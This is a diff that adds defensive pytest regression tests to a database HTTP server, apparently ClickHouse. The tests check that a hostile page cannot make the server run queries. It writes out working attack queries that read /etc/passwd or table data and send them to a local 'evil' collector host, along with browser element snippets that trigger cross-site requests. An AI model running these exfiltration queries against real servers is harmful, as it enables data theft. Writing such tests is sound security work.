@@ -37,11 +37,22 @@ def open_endpoint(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Endpoint
 
 
 @pytest.fixture(scope="module")
-def evil() -> Iterator[str]:
-    """A page of somebody else's site."""
+def collected() -> list[str]:
+    """What somebody else's site was told."""
+    return []
+
+
+@pytest.fixture(scope="module")
+def evil(collected: list[str]) -> Iterator[str]:
+    """A page of somebody else's site, which also collects what others send it."""
 
     class Handler(http.server.BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            collected.append(f"{self.path} {self.rfile.read(int(self.headers.get('content-length') or 0))!r}")
+            self.do_GET()
+
         def do_GET(self) -> None:
+            collected.append(self.path)
             self.send_response(200)
             self.send_header("Content-Type", "text/html")
             self.end_headers()
@@ -122,6 +133,49 @@ def test_a_page_changes_nothing(page, open_endpoint, attack):
     send(open_endpoint, "SYSTEM FLUSH LOGS")
     logged = "SELECT count() FROM system.query_log WHERE query LIKE 'INSERT INTO hits%' AND type = 'QueryFinish'"
     assert int(send(open_endpoint, logged).text) <= before
+
+
+# The attack that once worked: the query comes with an <img>, reads files, and sends them to the page's own server.
+STEAL = "INSERT INTO FUNCTION url('{evil}collect', 'TSV', 'x String') SELECT * FROM file('/etc/passwd', 'LineAsString')"
+WRITE = "INSERT INTO FUNCTION file('{out}', 'CSV', 'x String') SELECT 'canary-31ab'"
+REVENUE = "INSERT INTO FUNCTION url('{evil}collect', 'TSV', 'x String') SELECT toString(a) FROM hits"
+
+
+@pytest.mark.parametrize("readonly", ["", "&readonly=2"])
+@pytest.mark.parametrize("query", [STEAL, WRITE, REVENUE, "SELECT * FROM url('{evil}collect', 'LineAsString')"])
+def test_the_attack_that_read_files_reads_and_writes_nothing(
+    page, evil, collected, open_endpoint, tmp_path, query, readonly
+):
+    sql = query.format(evil=evil, out=tmp_path / "out")
+    collected.clear()
+    url = f"{open_endpoint.url}/?query={quote(sql)}{readonly}"
+    for attack in (image(url), fetch(url, {"mode": "no-cors"}), form(open_endpoint.url, sql)):
+        page.value(attack)
+    assert collected == []
+    assert list(tmp_path.iterdir()) == []
+    assert send(open_endpoint, sql).status == 403, "nor does it for a program: the sources are closed"
+    assert collected == []
+
+
+ELEMENTS = {
+    "script": "const e = document.createElement('script'); e.src = {url}; document.body.append(e);",
+    "iframe": "const e = document.createElement('iframe'); e.src = {url}; document.body.append(e);",
+    "stylesheet": "const e = document.createElement('link'); e.rel = 'stylesheet'; e.href = {url}; document.head.append(e);",
+    "object": "const e = document.createElement('object'); e.data = {url}; document.body.append(e);",
+    "video": "const e = document.createElement('video'); e.src = {url}; document.body.append(e);",
+    "CSS": "const e = document.createElement('div'); e.style.backgroundImage = `url(${{{url}}})`; document.body.append(e);",
+    "EventSource": "const e = new EventSource({url});",
+    "prefetch": "const e = document.createElement('link'); e.rel = 'prefetch'; e.href = {url}; document.head.append(e);",
+    "worker": "try {{ new Worker({url}); }} catch (error) {{}}",
+}
+
+
+@pytest.mark.parametrize("element", ELEMENTS)
+def test_no_element_of_a_page_gets_a_query_run(page, open_endpoint, element):
+    before = hits(open_endpoint)
+    url = json.dumps(f"{open_endpoint.url}/?query={quote(INSERT)}&n={element}")
+    page.value(f"new Promise(done => {{ {ELEMENTS[element].format(url=url)} setTimeout(() => done(1), 250); }})")
+    assert hits(open_endpoint) == before
 
 
 @pytest.mark.parametrize("path", ["/", "/ping", f"/?query={quote(READ)}"])
